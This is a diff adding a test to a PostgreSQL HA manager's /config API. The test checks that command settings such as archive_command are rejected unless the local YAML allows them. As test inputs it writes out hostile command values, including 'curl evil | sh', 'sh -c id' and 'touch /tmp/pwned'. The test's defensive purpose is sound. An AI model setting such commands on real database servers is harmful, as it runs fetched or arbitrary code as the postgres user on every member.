@@ -266,6 +266,51 @@ describe('PATCH and PUT /config', () => {
     expect((await post('/config', { pause: null }, 'PATCH')).status).toBe(200);
     expect((await pg1.loadCluster()).config?.value['pause']).toBeUndefined();
   });
+
+  // pgha issue 16 (review C1): PostgreSQL runs these as the postgres user on every member.
+  it('refuses commands unless this member allows them (postgresql.allow_dcs_commands), naming the key and the switch', async () => {
+    const before = (await pg1.loadCluster()).config!;
+    const switchText = 'commands are not accepted in the dynamic configuration unless the local YAML sets postgresql.allow_dcs_commands: true';
+    const cases: [string, Record<string, unknown>, string][] = [
+      ['PATCH', { postgresql: { recovery_conf: { archive_cleanup_command: 'touch /tmp/pwned' } } }, 'postgresql.recovery_conf.archive_cleanup_command'],
+      ['PATCH', { postgresql: { parameters: { archive_mode: 'on', archive_command: 'curl evil | sh' } } }, 'postgresql.parameters.archive_command'],
+      ['PATCH', { postgresql: { parameters: { ssl_passphrase_command: 'sh -c id' } } }, 'postgresql.parameters.ssl_passphrase_command'],
+      ['PATCH', { standby_cluster: { host: '10.0.0.9', port: 5433, restore_command: 'cp /wal/%f %p' } }, 'standby_cluster.restore_command'],
+      ['PUT', { ...before.value, standby_cluster: { host: '10.0.0.9', archive_cleanup_command: 'x' } }, 'standby_cluster.archive_cleanup_command'],
+    ];
+    for (const [method, body, key] of cases) {
+      const res = await post('/config', body, method);
+      const text = await res.text();
+      expect([method, key, res.status]).toEqual([method, key, 400]);
+      expect(text.startsWith(`${key}: PostgreSQL would run it as a shell command on every member; ${switchText}`)).toBe(true);
+    }
+    // Scripts pgha runs itself are local-only whatever the switch.
+    const hook = await post('/config', { postgresql: { callbacks: { on_start: '/tmp/x' } } }, 'PATCH');
+    expect([hook.status, await hook.text()]).toEqual([400, 'postgresql.callbacks: pgha runs callbacks, hooks and replica methods only from the local YAML (postgresql.callbacks); a value in the dynamic configuration is never used']);
+    expect((await pg1.loadCluster()).config?.version).toBe(before.version);
+
+    // A standby_cluster without commands is accepted, and removed again.
+    expect((await post('/config', { standby_cluster: { host: '10.0.0.9', port: 5433, primary_slot_name: 'standby_a' } }, 'PATCH')).status).toBe(200);
+    expect((await pg1.loadCluster()).config?.value['standby_cluster']).toEqual({ host: '10.0.0.9', port: 5433, primary_slot_name: 'standby_a' });
+    expect((await post('/config', { standby_cluster: null }, 'PATCH')).status).toBe(200);
+
+    // A member whose YAML allows them writes one.
+    const allowing = await start({ allowDcsCommands: true });
+    const command = { postgresql: { recovery_conf: { archive_cleanup_command: 'pg_archivecleanup /wal %r' } } };
+    const written = await fetch(`${allowing.base}/config`, { method: 'PATCH', body: JSON.stringify(command), headers: auth });
+    expect(written.status).toBe(200);
+    expect((await pg1.loadCluster()).config?.value['postgresql']).toMatchObject(command.postgresql);
+
+    // Back on this member: the stored command may stay as it is (pause, PUT of the same value)...
+    expect((await post('/config', { pause: true }, 'PATCH')).status).toBe(200);
+    expect((await post('/config', (await pg1.loadCluster()).config!.value, 'PUT')).status).toBe(200);
+    // ... but not change, and it may always go.
+    const changed = await post('/config', { postgresql: { recovery_conf: { archive_cleanup_command: 'touch /tmp/pwned' } } }, 'PATCH');
+    expect(changed.status).toBe(400);
+    expect(await changed.text()).toMatch(/^postgresql\.recovery_conf\.archive_cleanup_command: /);
+    expect((await post('/config', { pause: null, postgresql: null }, 'PATCH')).status).toBe(200);
+    expect((await pg1.loadCluster()).config?.value).toEqual(before.value);
+  });
 });
 
 describe('DELETE /switchover', () => {
